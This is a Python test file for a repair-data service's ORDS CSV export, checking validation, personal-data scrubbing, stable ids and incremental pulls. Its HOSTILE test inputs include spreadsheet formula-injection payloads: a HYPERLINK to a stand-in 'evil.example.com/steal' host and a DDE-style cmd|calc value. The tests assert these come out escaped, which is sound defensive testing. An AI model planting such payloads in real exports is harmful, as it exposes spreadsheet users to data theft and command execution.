"""The open ORDS v0.3 export: the real sample imported and hostile repairs logged come out as a
file the reference Frictionless validator accepts, with no personal data, no live formulas,
stable ids, and ``updated_since`` for incremental pulls."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from frictionless import Schema, validate
from sqlalchemy.ext.asyncio import AsyncSession

from app.api.deps import utcnow
from app.config import PROJECT_ROOT, Settings
from app.models import Organization
from app.render.csv import escape_formula
from app.services import repair as repair_service
from app.services.ords import FREE_TEXT_FIELDS, ORDS_FIELDS, scrub_problem
from tests.api.test_ords_import import SAMPLE, Worker, import_file, work  # noqa: F401
from tests.api.test_repairs import NOW, log_repair, set_clock
from tests.factories import Actor, create_listing, create_organization, create_person
from tests.places import PLACES
from tests.problems import assert_problem

SCHEMA = PROJECT_ROOT / "data" / "ords_v0.3_schema.json"
LATER = NOW + timedelta(hours=5)

HOSTILE = {
    "email_and_phone": "Ring meg på 912 34 567 eller skriv til kari.nordmann@example.no.",
    "formula": '=HYPERLINK("http://evil.example.com/steal?c=1","Klikk her")',
    "url_and_account": "Se https://www.elkjop.no/produkt/123, betal til 1234.56.78903.",
    "international_phone": "+47 22 12 34 56 etter klokka 16",
    "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
}
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
URL = re.compile(r"https?://|www\.", re.IGNORECASE)
PHONE = re.compile(r"\+47|\b\d{3} \d{2} \d{3}\b|\b\d{2} \d{2} \d{2} \d{2}\b")
# A personal number (the account number above), not any long number: model and part numbers
# are repair context and stay.
PERSONAL_NUMBER = re.compile(r"1234\.56\.78903")


def rows_of(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


async def export(client: httpx.AsyncClient, **params: Any) -> httpx.Response:
    response = await client.get("/v1/exports/ords.csv", params=params)
    assert response.status_code == 200, response.text
    return response


@pytest.fixture(autouse=True)
def fixed_clock(app: FastAPI) -> Iterator[None]:
    set_clock(app, NOW)
    yield
    app.dependency_overrides.pop(utcnow, None)


@pytest.fixture
async def owner(session: AsyncSession, settings: Settings) -> Actor:
    return await create_person(session, settings)


@pytest.fixture
async def cafe(session: AsyncSession, owner: Actor) -> Organization:
    return await create_organization(session, owner=owner, name="=Reparasjonskafé Oslo")


@pytest.fixture
async def logged(
    client: httpx.AsyncClient,
    owner: Actor,
    cafe: Organization,
    work: Worker,  # noqa: F811
) -> dict[str, dict[str, Any]]:
    """The sample imported, and one repair logged per hostile text."""
    job = await import_file(client, work, owner.headers, cafe, SAMPLE.read_bytes())
    assert job["state"] == "done", job
    repairs = {
        name: await log_repair(client, owner, cafe, problem=problem)
        for name, problem in HOSTILE.items()
    }
    repairs["hostile_brand"] = await log_repair(
        client,
        owner,
        cafe,
        brand="@Lenovo",
        partner_product_category="-Bærbar PC",
        repair_status="End of life",
        repair_barrier="Spare parts too expensive",
        product_age=2.5,
    )
    return repairs


async def test_the_export_is_valid_ords_with_no_personal_data_and_no_live_formulas(
    client: httpx.AsyncClient, tmp_path: Path, logged: dict[str, dict[str, Any]]
) -> None:
    response = await export(client)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="sirkel-ords-v0.3.csv"'
    )
    assert (
        response.headers["link"]
        == '<https://creativecommons.org/licenses/by-sa/4.0/>; rel="license"'
    )
    assert "CC BY-SA 4.0" in response.headers["x-data-attribution"]
    body = response.text
    assert body.split("\n", 1)[0] == ",".join(ORDS_FIELDS)
    rows = rows_of(body)
    assert len(rows) == 50 + len(logged)

    path = tmp_path / "sirkel-ords-v0.3.csv"
    path.write_bytes(response.content)
    schema = Schema.from_descriptor(json.loads(SCHEMA.read_text(encoding="utf-8")))
    report = validate(path.name, schema=schema, basepath=str(path.parent))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])

    for row in rows:
        assert re.fullmatch(r"sirkel_[0-9]+", row["id"])
        for column in FREE_TEXT_FIELDS:
            assert not row[column].startswith(("=", "+", "-", "@")), (column, row[column])
    assert len({row["id"] for row in rows}) == len(rows)
    problems = " ".join(row["problem"] for row in rows)
    for pattern in (EMAIL, URL, PHONE, PERSONAL_NUMBER):
        assert not pattern.search(problems), pattern.search(problems)

    by_id = {row["id"]: row for row in rows}
    formula = by_id[logged["formula"]["ords_id"]]
    assert formula["problem"].startswith("'=HYPERLINK(")
    assert "[url]" in formula["problem"]
    assert "[e-mail]" in by_id[logged["email_and_phone"]["ords_id"]]["problem"]
    assert "[number]" in by_id[logged["url_and_account"]["ords_id"]]["problem"]
    hostile = by_id[logged["hostile_brand"]["ords_id"]]
    assert (hostile["brand"], hostile["partner_product_category"]) == ("'@Lenovo", "'-Bærbar PC")
    assert hostile["group_identifier"] == "'=Reparasjonskafé Oslo"
    assert (hostile["repair_status"], hostile["repair_barrier_if_end_of_life"]) == (
        "End of life",
        "Spare parts too expensive",
    )
    assert hostile["product_age"] == "2.5"
    laptop = by_id[logged["formula"]["ords_id"]]
    assert {k: laptop[k] for k in ("data_provider", "country", "product_category")} == {
        "data_provider": "Sirkel",
        "country": "NOR",
        "product_category": "Laptop",
    }
    assert (laptop["product_category_id"], laptop["partner_product_category"]) == ("16", "Laptops")
    assert (laptop["event_date"], laptop["brand"], laptop["year_of_manufacture"]) == (
        "2026-11-22",
        "Lenovo",
        "2019",
    )

    imported = [row for row in rows if row["data_provider"] == "Fixit Clinic"]
    assert len(imported) == 50
    assert {row["country"] for row in imported} == {"USA"}


@pytest.mark.usefixtures("logged")
async def test_the_imported_sample_comes_out_as_it_went_in_but_scrubbed(
    client: httpx.AsyncClient,
) -> None:
    with SAMPLE.open(encoding="utf-8", newline="") as file:
        source = list(csv.DictReader(file))
    out = [
        row
        for row in rows_of((await export(client)).text)
        if row["data_provider"] == "Fixit Clinic"
    ]
    same = [c for c in ORDS_FIELDS if c not in ("id", "problem")]
    assert sorted((*(r[c] for c in same), r["problem"]) for r in out) == sorted(
        (*(r[c] for c in same), escape_formula(scrub_problem(r["problem"]))) for r in source
    )


@pytest.mark.usefixtures("logged")
async def test_ids_are_stable_across_exports(
    client: httpx.AsyncClient, owner: Actor, cafe: Organization
) -> None:
    first = (await export(client)).text
    assert (await export(client)).text == first
    extra = await log_repair(client, owner, cafe, category="mobile-phones")
    after = rows_of((await export(client)).text)
    assert after[:-1] == rows_of(first)
    assert after[-1]["id"] == extra["ords_id"]
    assert after[-1]["product_category"] == "Mobile"


@pytest.mark.usefixtures("logged")
async def test_the_export_pages_through_every_repair(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = (await export(client)).text
    monkeypatch.setattr(repair_service, "EXPORT_PAGE_SIZE", 7)
    assert (await export(client)).text == whole
    monkeypatch.setattr(repair_service, "EXPORT_PAGE_SIZE", len(rows_of(whole)))
    assert (await export(client)).text == whole


async def test_updated_since_returns_only_what_changed_since(
    app: FastAPI,
    client: httpx.AsyncClient,
    owner: Actor,
    logged: dict[str, dict[str, Any]],
) -> None:
    changed = logged["formula"]
    set_clock(app, LATER)
    response = await client.patch(
        f"/v1/repairs/{changed['id']}", json={"repair_status": "Repairable"}, headers=owner.headers
    )
    assert response.status_code == 200, response.text

    [row] = rows_of((await export(client, updated_since=LATER.isoformat())).text)
    assert (row["id"], row["repair_status"]) == (changed["ords_id"], "Repairable")
    everything = rows_of((await export(client, updated_since=NOW.isoformat())).text)
    assert len(everything) == 50 + len(logged)
    later = (await export(client, updated_since=(LATER + timedelta(seconds=1)).isoformat())).text
    assert later == ",".join(ORDS_FIELDS) + "\n"


@pytest.mark.parametrize("value", ["2026-11-22T12:00:00", "2026-11-22", "yesterday"])
async def test_updated_since_needs_a_time_with_a_zone(
    client: httpx.AsyncClient, value: str
) -> None:
    response = await client.get("/v1/exports/ords.csv", params={"updated_since": value})
    body = assert_problem(response, 422, "validation_failed")
    assert body["errors"][0]["field"] == "updated_since"


async def test_repairs_reported_through_transactions_are_exported(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
) -> None:
    shop_owner = await create_person(session, settings)
    shop = await create_organization(session, owner=shop_owner)
    customer = await create_person(session, settings)
    service = await create_listing(
        session,
        at=PLACES["oslo_city_hall"][:2],
        organization=shop,
        kind="repair_service",
        mode=None,
        category="laptops",
    )
    asked = await client.post(
        "/v1/transactions", json={"listing_id": str(service.id)}, headers=customer.headers
    )
    assert asked.status_code == 201, asked.text
    tx = asked.json()["id"]
    accepted = await client.post(f"/v1/transactions/{tx}/accept", headers=shop_owner.headers)
    assert accepted.status_code == 200, accepted.text
    done = await client.post(
        f"/v1/transactions/{tx}/complete",
        json={"repair": {"repair_status": "Fixed", "problem": "Ring 41234567"}},
        headers=shop_owner.headers,
    )
    assert done.status_code == 200, done.text
    [row] = rows_of((await export(client)).text)
    assert (row["data_provider"], row["product_category"], row["repair_status"]) == (
        "Sirkel",
        "Laptop",
        "Fixed",
    )
    assert row["problem"] == "Ring [phone]"


async def test_an_empty_export_is_the_header(client: httpx.AsyncClient) -> None:
    assert (await export(client)).text == ",".join(ORDS_FIELDS) + "\n"
